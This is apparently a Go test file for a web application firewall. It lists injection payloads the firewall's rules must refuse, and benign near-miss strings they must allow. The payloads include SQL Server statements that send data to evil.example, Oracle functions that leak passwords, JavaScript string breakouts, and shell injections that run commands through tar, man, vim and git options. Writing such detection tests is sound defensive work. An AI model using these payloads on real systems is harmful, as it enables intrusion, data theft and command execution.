package waf

import "testing"

// attack77Attacks are attack 77's: SQL Server statements of kinds 210201
// did not list, PostgreSQL's other types and a match as a sort key,
// Oracle's XMLTYPE, CTX_THES and LT, JavaScript that parses HTML from a
// string or indexes the global object, and tar's, man's, vim's and git's
// other ways to run a command.
var attack77Attacks = []string{"x' create event session s on server add event sqlserver.sql_batch_completed add target package0.event_file(set filename='\\\\evil.example\\s\\x.xel') alter event session s on server state=start--",
	"x' alter event session s on server state=start--", "x' create route r with address='tcp://evil.example:4022'--",
	"x' create external data source d with (location='sqlserver://evil.example')--", "x' alter availability group ag force_failover_allow_data_loss--",
	"x' alter server configuration set process affinity cpu=0--", "x' alter resource governor disable--", "x' alter database scoped configuration set maxdop=1--",
	"x' alter database scoped configuration clear procedure_cache--", "x' alter database scoped credential c with identity='x'--",
	"x' create database audit specification s for server audit a--", "x' create remote service binding b to service 's' with user=u--",
	"x' add sensitivity classification to users.pw with (label='x')--", "x' open symmetric key k decryption by password='x'--", "x' rollback tran--",
	"x' rollback--", "x' update statistics users with rowcount=1--", "x' setuser 'dbo'--",
	"password rlike '^a'", "password similar to 'a%'", "password::txid_snapshot", "password::pg_snapshot", "name,password::xid8", "password::tstzrange",
	"password::datemultirange", "password::nummultirange",
	"x'||sys.xmltype.createxml('<:'||password||'>')||'", "x'||xmltype.createxml('<:'||password||'>')||'", "x'||ctx_thes.sn(user,password)||'",
	"x' and 1=ctx_thes.sn(user,password)--", "x'||lt.compressworkspacetree(password)||'",
	"'-jQuery(name)-'", `"-jQuery(name)-"`, "'-jQuery(name)//", "');jQuery(name)//", "'-angular.element(name)-'", "'-Zepto(name)-'",
	"'-globalThis[name.slice(0,4)](name)-'", "'-globalThis[name](decodeURI(URL))-'", "'-jQuery.parseHTML(name,0,1)-'", "'-new Audio(name)-'",
	"x;tar -I 'sh -c id' -cf x.tar a", "x;man -P 'sh -c id' ls", `x;vim -c ':call libcall("/lib/x86_64-linux-gnu/libc.so.6","system","id")'`,
	`x;nvim -c ':call jobstart("id")'`, `x;vim -c ':call term_start("id")'`, "x;git -c core.alternateRefsCommand=id fetch", "x;git daemon --access-hook=id",
	"x;git -c filter.x.clean=id add .", "x;git -c merge.x.driver=id merge b"}

// attack77Benign are near-misses: prose with a dash after the new words,
// everyday tar, man, vim and git, sort values and searches.
var attack77Benign = []string{"Parents' create event tickets -- for Friday", "Don't rollback now -- it's late", "We'll use master -- it's fine",
	"I'll commit -- promise", "x;tar -I zstd -cf x.tar.zst dir", "x;man -P less ls", "x;vim -c ':!make'", "x;git rebase -x 'npm test' HEAD~3",
	"x;git -c core.pager='less -FRX' log", "name desc, price asc", "-created_at,name", "created_at:desc", "price desc nulls last", "x = 1",
	"Use XMLType to parse documents", "the lt(x) function", "'Save' - top of the page", `"Quote" - window seat please`, "'A' - element of surprise"}

// TestAttack77: the gateway's rules refuse attack77Attacks through a real
// Caddy (in the query and JSON) and none of attack77Benign.
func TestAttack77(t *testing.T) {
	operatorTable(t, "2101xx/2102xx", func(v string) bool {
		return tsqlStatement(v) || sortListProbe(v) || oracleFunction(v) || jsStringBreakout(v) || shellPrefixed(v)
	}, attack77Attacks, nil, attack77Benign)
}
